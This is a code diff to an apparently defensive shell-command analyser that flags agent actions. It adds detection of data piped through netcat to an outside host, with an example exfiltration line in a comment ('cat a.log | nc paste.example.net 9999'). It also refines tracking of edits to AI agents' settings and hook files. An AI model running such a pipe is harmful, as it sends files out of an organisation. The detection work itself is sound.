@@ -5,7 +5,7 @@ import { PATH_KINDS, opensDoor, pathKindOf } from '../../paths.js'
 import { raiseWords } from '../../code.js'
 import { readOtherQuery } from '../../sql/other-queries.js'
 import { readPossibleSql } from '../../sql/read-sql.js'
-import { type Call, type ShellContext, hasOption, isOpen, operandsOf, quoted } from '../call.js'
+import { type Call, type ShellContext, hasOption, isOpen, operandsOf, placeOfHost, quoted } from '../call.js'
 import { ownThingOf, thingNames } from '../own-things.js'
 import { noteTableActs } from './act-table.js'
 import { COMMAND_LABELS } from './commands.js'
@@ -56,6 +56,7 @@ export function noteShellActs(call: Call, context: ShellContext): void {
   if (elsewhere !== '' && REMOTE.has(name) && !isGuest)
     noteLiveChange(args[hostAt(args)] ?? '', elsewhere, context)
   noteTableActs(call, effects)
+  noteFedSocket(call, context)
   if (GRANT_COMMANDS.has(name) && args.length > 0)
     raiseIrreversible('grant', 'a command that lets somebody in', effects)
   if (CHANGES_SECRETS.has(name) && !args.some((arg) => /^(?:-S|--status)$/.test(arg)))
@@ -97,6 +98,16 @@ export function noteShellActs(call: Call, context: ShellContext): void {
   for (const path of writtenBy(call, operands)) noteDoor(path, effects)
   if (emptiesFiles(call, operands)) for (const path of operands.slice(-8)) noteEmptied(path, effects)
 }
+
+/** Records that what a command is fed goes to a host that is not of the organisation: `cat a.log | nc paste.example.net 9999`. */
+function noteFedSocket(call: Call, context: ShellContext): void {
+  if (!SOCKETS.has(call.name) || (!call.piped && call.fed === undefined)) return
+  const [host = ''] = operandsOf(call)
+  if (hasOption(call, 'l', '--listen') || placeOfHost(host, context) !== 'outside') return
+  raiseIrreversible('send', 'what a command is fed goes to another host', context.effects)
+  actsOn(context.effects, 'send', { kind: 'host', names: [host, ...wordsIn(host)] })
+}
+const SOCKETS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat'])
 
 /** MongoDB shell methods that let somebody in. */
 const ADMITS =
@@ -175,7 +186,7 @@ function noteLiveChange(host: string, text: string, context: ShellContext): void
   actsOn(context.effects, 'deploy', {
     kind: 'host',
     reach: 'live',
-    names: [name, host, ...wordsIn(name)],
+    names: [name, host, name.split('.')[0] ?? name, ...wordsIn(name)],
   })
 }
 
@@ -239,20 +250,28 @@ export function noteDoor(path: string, effects: Effects): void {
     raiseIrreversible('grant', 'output that goes to what lets others in', effects)
 }
 
-/** Records a change of an agent's settings: only a task that names the agent and its settings asks for it, none for Plimsoll's own. */
+/**
+ * Records a change of an agent's settings or hooks: only a task that names a hook, or the agent and its settings, asks for it, none for
+ * Plimsoll's own.
+ */
 function noteSettings(path: string, effects: Effects): void {
-  const [name = '', folder = ''] = path.split(/[\\/]/).toReversed()
-  const agent = folder.replace(/^\./, '')
+  const parts = path.split(/[\\/]/)
+  const name = parts.at(-1) ?? ''
+  const at = parts.findLastIndex((part) => AGENT_FOLDER.test(part))
+  const agent = parts[at]?.replace(/^\./, '') ?? ''
   if (/plimsoll/i.test(path) || name.startsWith('.mcp') || agent === '')
     return actsOnUnnamed(effects, 'control', 'setting', 'control')
   signal(effects, 'byName', 1)
   const setting = { kind: 'setting', reach: 'control', thing: path } as const
-  actsOn(effects, 'control', { ...setting, names: [agent, `${folder}/${name}`] })
-  actsOn(effects, 'control', {
-    ...setting,
-    names: ['settings', 'permissions', 'hooks', `${folder}/${name}`],
-  })
+  const place = parts.slice(at).join('/')
+  if (parts[at + 1] === 'hooks')
+    return actsOn(effects, 'control', { ...setting, names: [name, 'hook', place] })
+  actsOn(effects, 'control', { ...setting, names: [agent, place, ...ASKING] })
+  actsOn(effects, 'control', { ...setting, names: ['settings', 'permissions', 'hooks', place] })
 }
+const AGENT_FOLDER = /^\.?(?:claude|codex|copilot|cursor|gemini|opencode|qwen|windsurf)$/
+/** Words by which tasks name an agent's questions. */
+const ASKING = ['asking', 'ask', 'prompting', 'prompts', 'permissions', 'approve', 'approval', 'allowlist']
 
 /** A command that cannot be read before it runs may do anything, including deletion. */
 export function opaque(effects: Effects, reason: string): void {
